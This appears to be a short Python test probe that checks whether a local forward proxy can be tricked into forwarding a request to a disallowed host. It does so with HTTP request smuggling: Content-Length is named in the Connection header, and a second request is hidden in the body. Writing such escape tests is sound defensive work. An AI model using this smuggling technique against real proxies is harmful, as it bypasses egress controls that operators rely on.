# tries: to hide a request for another host in the content of one for an allowed host
# escaped if: the upstream proxy takes the content for a request
# server: upstream allow-host
# host check: upstream_receives_nothing
import socket
hidden = "GET http://@TOKEN@.invalid/ HTTP/1.1\r\nHost: x\r\n\r\n"
for named in ("Content-Length", "CONTENT-LENGTH, close", "a, Content-length, b", "a, b, c, d, Content-Length"):
    head = f"POST http://allowed.invalid/ HTTP/1.1\r\nConnection: {named}\r\nContent-Length: {len(hidden)}\r\n\r\n"
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 3); s.settimeout(3)
        s.send((head + hidden).encode()); print(named, s.recv(100))
    except OSError as error:
        print(named, error)
